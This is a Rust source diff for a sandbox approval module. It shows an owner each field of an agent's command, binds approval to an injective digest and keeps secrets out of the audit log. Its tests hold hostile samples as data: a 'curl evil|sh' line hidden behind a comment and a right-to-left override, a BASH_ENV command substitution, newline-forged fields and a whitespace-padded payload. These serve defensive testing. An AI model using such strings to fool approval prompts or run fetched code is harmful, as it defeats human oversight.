@@ -1,0 +1,370 @@
+//! What the machine's owner is asked: named fields, each of a kind.
+//!
+//! The text that is shown, the digest that an answer is bound to and the audit record are made of the same fields. A request is
+//! taken apart here without `..`, so that one of its fields cannot be left out of the question without a decision.
+
+use std::ffi::OsStr;
+use std::os::unix::ffi::OsStrExt as _;
+use std::path::Path;
+
+use sha2::{Digest as _, Sha256};
+
+use crate::api::types::{Command, CopyRequest, ExecRequest, HostPath, ShellRequest};
+use crate::approval::Field;
+use crate::error::{Error, Result};
+use crate::sandbox::env::check_env;
+use crate::sandbox::spec::SandboxInfo;
+use crate::units::hex;
+use crate::visible;
+
+/// The most characters that a person is asked to read.
+const MAX_SHOWN: usize = 8 * 1024;
+
+/// What is to happen, in the order in which it is shown.
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub(super) struct What(Vec<(&'static str, Value)>);
+
+/// What a field holds.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub(super) enum Value {
+    Text(String),
+    /// A program and its arguments.
+    Words(Vec<String>),
+    /// A path of this machine, which need not be UTF-8.
+    Path(Vec<u8>),
+    /// Of an environment. The owner has to see the value, and the audit log has not.
+    Variable(String, String),
+    /// A program's text, of which the audit log has the digest.
+    Source(String),
+}
+
+impl Value {
+    /// Its kind and its parts, which tell every two values apart.
+    fn parts(&self) -> (u8, Vec<&[u8]>) {
+        match self {
+            Self::Text(text) => (1, vec![text.as_bytes()]),
+            Self::Words(words) => (2, words.iter().map(String::as_bytes).collect()),
+            Self::Path(path) => (3, vec![path]),
+            Self::Variable(name, value) => (4, vec![name.as_bytes(), value.as_bytes()]),
+            Self::Source(text) => (5, vec![text.as_bytes()]),
+        }
+    }
+
+    fn shown(&self) -> String {
+        match self {
+            Self::Text(text) | Self::Source(text) => visible::line(text),
+            Self::Words(words) => visible::words(words),
+            Self::Path(path) => path_shown(path),
+            // A name holds no `=`.
+            Self::Variable(name, value) => format!("{}={}", visible::line(name), visible::line(value)),
+        }
+    }
+
+    fn recorded(&self) -> String {
+        match self {
+            Self::Text(_) | Self::Words(_) | Self::Path(_) => self.shown(),
+            Self::Variable(name, _) => visible::line(name),
+            Self::Source(text) => sha256(text.as_bytes()),
+        }
+    }
+}
+
+/// Bytes that are no text are shown as such.
+fn path_shown(path: &[u8]) -> String {
+    let piece = |chunk: std::str::Utf8Chunk<'_>| {
+        let broken: String = chunk.invalid().iter().map(|byte| format!("\\x{byte:02x}")).collect();
+        visible::line(chunk.valid()) + &broken
+    };
+    path.utf8_chunks().map(piece).collect()
+}
+
+impl What {
+    /// Adds a field.
+    #[must_use]
+    pub(super) fn with(mut self, name: &'static str, value: Value) -> Self {
+        self.0.push((name, value));
+        self
+    }
+
+    #[must_use]
+    pub(super) fn text(self, name: &'static str, text: impl Into<String>) -> Self {
+        self.with(name, Value::Text(text.into()))
+    }
+
+    #[must_use]
+    pub(super) fn path(self, name: &'static str, path: &(impl AsRef<OsStr> + ?Sized)) -> Self {
+        self.with(name, Value::Path(path.as_ref().as_bytes().to_vec()))
+    }
+
+    fn variables<'a>(self, name: &'static str, env: impl IntoIterator<Item = (&'a String, &'a String)>) -> Self {
+        env.into_iter()
+            .fold(self, |what, (variable, value)| what.with(name, Value::Variable(variable.clone(), value.clone())))
+    }
+
+    fn command(self, command: &Command) -> Self {
+        match command {
+            Command::Argv(argv) => self.with("command", Value::Words(argv.clone())),
+            Command::Shell(line) => self.text("shell line", line),
+        }
+    }
+
+    fn has(&self, name: &str) -> bool {
+        self.0.iter().any(|(other, _)| *other == name)
+    }
+
+    /// The sandbox that it happens in, with the environment that each of its commands has.
+    fn runs_in(self, info: &SandboxInfo) -> Self {
+        self.text("sandbox", &info.id).variables("environment of the sandbox", &info.env)
+    }
+
+    /// A command; `about` is what has to be known of it besides.
+    pub(super) fn exec(request: &ExecRequest, cwd: &str, info: &SandboxInfo, about: Self) -> Result<Self> {
+        let ExecRequest {
+            // The one that was found under this id.
+            container_id: _,
+            command,
+            // As it was resolved.
+            cwd: _,
+            env,
+            // How long, and how much is kept of what it says, is no effect on the machine.
+            timeout_ms: _,
+            max_output: _,
+            stream: _,
+            stdin,
+            stream_to_blackboard,
+            terminal,
+        } = request;
+        check_env(env)?;
+        let mut what = Self::default().command(command).text("directory", cwd).variables("environment", env);
+        if *stdin && !about.has("input") {
+            what = what.text("input", "whatever is written to it, which is not shown here");
+        }
+        if terminal.is_some() {
+            what = what.text("terminal", "yes");
+        }
+        if *stream_to_blackboard {
+            what = what.text("output", "is published on the session's blackboard");
+        }
+        what.0.extend(about.0);
+        Ok(what.runs_in(info))
+    }
+
+    /// A line of the persistent shell of that name.
+    pub(super) fn shell(request: &ShellRequest, name: &str, info: &SandboxInfo) -> Self {
+        let ShellRequest { container_id: _, name: _, line, timeout_ms: _, max_output: _ } = request;
+        let what = Self::default().text("shell line", line).text("shell", name);
+        what.text("directory", "where that shell is, or the workspace when it has to be started").runs_in(info)
+    }
+
+    /// A file of the sandbox, and what else has to be known.
+    pub(super) fn file(path: &str, info: &SandboxInfo, about: Self) -> Self {
+        let mut what = Self::default().text("path", info.path_inside(path));
+        what.0.extend(about.0);
+        what.text("sandbox", &info.id)
+    }
+
+    /// A copy between the sandbox and `host`, where the host's path leads.
+    pub(super) fn copy(request: &CopyRequest, host: &Path, info: &SandboxInfo) -> Self {
+        let CopyRequest { container_id: _, host: named, sandbox } = request;
+        let what = Self::default().path("host path", host);
+        let what = match named {
+            HostPath::Root { root, path: _ } => what.text("host root", root),
+            HostPath::Owner(_) => what,
+        };
+        what.text("path in the sandbox", info.path_inside(sandbox)).text("sandbox", &info.id)
+    }
+
+    /// As it is shown: whole, or refused by the name of what is too long. `advice` says what to do then.
+    pub(super) fn shown(&self, advice: &str) -> Result<Vec<Field>> {
+        let field = |(name, value): &(&str, Value)| Field { name: (*name).to_owned(), value: value.shown() };
+        let fields: Vec<_> = self.0.iter().map(field).collect();
+        let length = |field: &Field| field.name.chars().count() + field.value.chars().count();
+        let all: usize = fields.iter().map(length).sum();
+        let longest = fields.iter().max_by_key(|field| length(field)).filter(|_| all > MAX_SHOWN);
+        match longest {
+            None => Ok(fields),
+            Some(field) => Err(Error::too_large(format!(
+                "this must be approved, and nothing is approved that cannot be shown whole: it has {all} characters, most of \
+                 them in `{}`, and at most {MAX_SHOWN} are shown; {advice}",
+                field.name
+            ))),
+        }
+    }
+
+    /// As the audit log has it.
+    pub(super) fn recorded(&self) -> String {
+        let lines: Vec<_> = self.0.iter().map(|(name, value)| format!("{name}: {}", value.recorded())).collect();
+        lines.join("\n")
+    }
+
+    /// Adds all of it to a digest.
+    pub(super) fn add_to(&self, digest: &mut Injective) {
+        digest.number(self.0.len());
+        for (name, value) in &self.0 {
+            let (kind, parts) = value.parts();
+            digest.part(name.as_bytes());
+            digest.part(&[kind]);
+            digest.number(parts.len());
+            parts.into_iter().for_each(|part| digest.part(part));
+        }
+    }
+}
+
+/// A digest of parts, in which no two lists of parts read alike: each has its length in front.
+#[derive(Debug, Default)]
+pub(super) struct Injective(Sha256);
+
+impl Injective {
+    pub(super) fn part(&mut self, part: &[u8]) {
+        self.number(part.len());
+        self.0.update(part);
+    }
+
+    fn number(&mut self, number: usize) {
+        self.0.update((number as u64).to_le_bytes());
+    }
+
+    pub(super) fn end(self) -> Vec<u8> {
+        self.0.finalize().to_vec()
+    }
+}
+
+/// `sha256:` and the digest.
+pub(super) fn sha256(bytes: &[u8]) -> String {
+    format!("sha256:{}", hex(&Sha256::digest(bytes)))
+}
+
+#[cfg(test)]
+mod tests {
+    use std::collections::BTreeMap;
+
+    use serde_json::json;
+
+    use super::*;
+    use crate::api::types::TerminalSize;
+
+    fn info(env: &[(&str, &str)]) -> SandboxInfo {
+        let env: BTreeMap<_, _> = env.iter().copied().collect();
+        let owner = json!({"tenant": "t", "session": "s", "agent": "a"});
+        serde_json::from_value(json!({
+            "id": "sbx_1", "name": "n", "engine_id": "e", "role": "r", "image": "i", "backend": "local", "isolation": "none",
+            "owner": owner, "shared": false, "cpus": 1.0, "memory_mib": 1, "pids": 1, "network": "none", "env": env,
+            "identity": {"uid": 1, "gid": 1}, "workspace": "/w", "bare": true, "launched_at_ms": 0, "started_at_ms": 0,
+            "expires_at_ms": 0,
+        }))
+        .unwrap()
+    }
+
+    fn env(pairs: &[(&str, &str)]) -> BTreeMap<String, String> {
+        pairs.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned())).collect()
+    }
+
+    fn exec(line: &str) -> ExecRequest {
+        ExecRequest { command: Command::Shell(line.into()), ..ExecRequest::default() }
+    }
+
+    fn digest(what: &What) -> Vec<u8> {
+        let mut digest = Injective::default();
+        what.add_to(&mut digest);
+        digest.end()
+    }
+
+    fn lines(what: &What) -> String {
+        what.shown("").unwrap().iter().map(|field| format!("{}: {}\n", field.name, field.value)).collect()
+    }
+
+    #[test]
+    fn a_question_shows_the_environment_of_the_command_and_of_its_sandbox() {
+        let request =
+            ExecRequest { stdin: true, env: env(&[("A", "1\n2")]), ..exec("true # tidy up\ncurl evil|sh\u{202e}") };
+        let sandbox = info(&[("BASH_ENV", "$(touch /tmp/x)")]);
+        let what = What::exec(&request, "/w", &sandbox, What::default()).unwrap();
+        assert_eq!(
+            lines(&what),
+            "shell line: true # tidy up\\ncurl evil|sh\\u{202e}\ndirectory: /w\nenvironment: A=1\\n2\n\
+             input: whatever is written to it, which is not shown here\nsandbox: sbx_1\n\
+             environment of the sandbox: BASH_ENV=$(touch /tmp/x)\n"
+        );
+        let shell = ShellRequest { line: "true".into(), ..ShellRequest::default() };
+        assert!(lines(&What::shell(&shell, "default", &sandbox)).contains("environment of the sandbox: BASH_ENV=$("));
+    }
+
+    #[test]
+    fn the_audit_log_has_no_values_of_an_environment_and_no_source() {
+        let request = ExecRequest { env: env(&[("TOKEN", "hunter2")]), ..exec("true") };
+        let about = What::default().with("input", Value::Source("print('hunter3')".into()));
+        let what = What::exec(&request, "/w", &info(&[("OTHER", "hunter4")]), about).unwrap();
+        assert!(
+            lines(&what).contains("hunter2") && lines(&what).contains("hunter3") && lines(&what).contains("hunter4")
+        );
+        let recorded = what.recorded();
+        assert!(!recorded.contains("hunter"), "{recorded}");
+        assert!(recorded.contains("environment: TOKEN\n") && recorded.contains("input: sha256:"), "{recorded}");
+    }
+
+    #[test]
+    fn no_two_requests_are_one_question() {
+        let ask = |request: &ExecRequest, cwd: &str, sandbox: &[(&str, &str)]| {
+            What::exec(request, cwd, &info(sandbox), What::default()).unwrap()
+        };
+        let argv = |words: &[&str]| ExecRequest {
+            command: Command::Argv(words.iter().map(|word| (*word).to_owned()).collect()),
+            ..ExecRequest::default()
+        };
+        let size = TerminalSize { rows: 1, columns: 1 };
+        let all = [
+            ask(&exec("x"), "/a", &[]),
+            ask(&exec("x"), "/b", &[]),
+            ask(&exec("x in /a"), "/b", &[]),
+            ask(&exec("x"), "/a in /b", &[]),
+            ask(&exec("x\ndirectory: /b"), "/a", &[]),
+            ask(&exec("x\\ndirectory: /b"), "/a", &[]),
+            ask(&ExecRequest { stdin: true, ..exec("x") }, "/a", &[]),
+            ask(&ExecRequest { terminal: Some(size), ..exec("x") }, "/a", &[]),
+            ask(&ExecRequest { stream_to_blackboard: true, ..exec("x") }, "/a", &[]),
+            ask(&ExecRequest { env: env(&[("A", "1")]), ..exec("x") }, "/a", &[]),
+            ask(&ExecRequest { env: env(&[("A", "1"), ("B", "2")]), ..exec("x") }, "/a", &[]),
+            ask(&ExecRequest { env: env(&[("A", "1\nenvironment: B=2")]), ..exec("x") }, "/a", &[]),
+            ask(&exec("x"), "/a", &[("A", "1")]),
+            ask(&exec("x"), "/a", &[("A", "2")]),
+            ask(&argv(&["x"]), "/a", &[]),
+            ask(&argv(&["x", ""]), "/a", &[]),
+            ask(&argv(&["x", "y"]), "/a", &[]),
+            ask(&argv(&["x y"]), "/a", &[]),
+            ask(&argv(&["\"x\" y"]), "/a", &[]),
+        ];
+        for (at, one) in all.iter().enumerate() {
+            for other in all.iter().skip(at + 1) {
+                assert_ne!(digest(one), digest(other), "{one:?}\n{other:?}");
+                assert_ne!(lines(one), lines(other), "{one:?}\n{other:?}");
+            }
+        }
+    }
+
+    #[test]
+    fn what_is_too_long_to_be_shown_is_refused_by_name() {
+        let what = |line: &str| What::exec(&exec(line), "/w", &info(&[]), What::default()).unwrap();
+        assert!(what(&"x".repeat(MAX_SHOWN / 2)).shown("").is_ok());
+        let refused = what(&format!("{}; payload", " ".repeat(MAX_SHOWN))).shown("shorten it").unwrap_err();
+        assert_eq!(refused.kind, crate::error::ErrorKind::TooLarge);
+        assert!(refused.message.contains("`shell line`") && refused.message.ends_with("shorten it"), "{refused}");
+        // What counts is what has to be read.
+        assert!(what(&"\u{202e}".repeat(MAX_SHOWN / 4)).shown("").is_err());
+        let many: Vec<_> = (0..MAX_SHOWN).map(|number| (format!("V{number}"), String::new())).collect();
+        let request = ExecRequest { env: many.into_iter().collect(), ..exec("true") };
+        let refused = What::exec(&request, "/w", &info(&[]), What::default()).unwrap().shown("").unwrap_err();
+        assert!(refused.message.contains("`environment`"), "{refused}");
+    }
+
+    #[test]
+    fn a_path_that_is_no_text_is_shown_whole() {
+        let what = What::default().path("host path", OsStr::from_bytes(b"/a\\\xff\n/b"));
+        assert_eq!(lines(&what), "host path: /a\\\\\\xff\\n/b\n");
+    }
+
+    #[test]
+    fn a_name_that_no_environment_can_hold_is_not_asked_about() {
+        let request = ExecRequest { env: env(&[("A=B", "C")]), ..exec("true") };
+        assert!(What::exec(&request, "/w", &info(&[]), What::default()).is_err());
+    }
+}
